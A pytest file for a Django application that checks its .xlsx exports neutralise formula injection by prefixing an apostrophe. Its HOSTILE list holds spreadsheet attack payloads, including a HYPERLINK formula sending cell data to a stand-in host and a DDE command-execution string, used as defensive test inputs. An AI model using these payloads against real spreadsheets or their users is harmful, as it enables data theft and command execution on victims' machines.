"""Finding 5 of the attack run: a value typed as ``=…`` must not become a live formula in any
.xlsx the product makes (OWASP: a leading apostrophe before = + - @ tab CR)."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from config.xlsx import neutralise, restore
from tests.security.routes import CONGRESS_OFFICE

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_inert(content: bytes, expected: str):
    cells = list(_cells(content))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula in the export"
    assert any(c.value == "'" + expected for c in cells), f"{expected!r} not written as text"


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_every_formula_start_and_restore_undoes_it(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value
    assert neutralise("张三") == "张三" and neutralise(-2) == -2


def test_the_ledgers_and_the_roster_carry_no_formula(world, client_as):
    from suggestions.models import Status, Suggestion

    # A deputy's name holds at most 32 characters (PostgreSQL enforces it): a short formula of the same kind.
    hostile_name = '=HYPERLINK("http://e.x","点我")'
    world.deputy_a.name = hostile_name
    world.deputy_a.save(update_fields=["name"])
    activity = world.activity_a
    activity.summary = HOSTILE[1]
    activity.save(update_fields=["summary"])
    Suggestion.objects.create(title=HOSTILE[3], content="x", region=world.tree.zhushan, lead_deputy=world.own_deputy_a, status=Status.TRIAGE)
    office = client_as(world.insiders[CONGRESS_OFFICE])

    _assert_inert(office.get(reverse("deputies:export")).content, hostile_name)
    _assert_inert(office.get(reverse("activities:export")).content, HOSTILE[1])
    _assert_inert(office.get(reverse("suggestions:export")).content, HOSTILE[3])


def test_every_xlsx_is_made_by_the_shared_writer():
    makers = []
    for path in ROOT.glob("*/**/*.py"):
        if any(part in {".venv", "tests", "bench", "node_modules"} for part in path.relative_to(ROOT).parts):
            continue
        if re.search(r"^\s*from openpyxl import .*Workbook\b(?!\w)", path.read_text(encoding="utf-8"), re.M):
            makers.append(str(path.relative_to(ROOT)))
    assert makers == ["config/xlsx.py"]
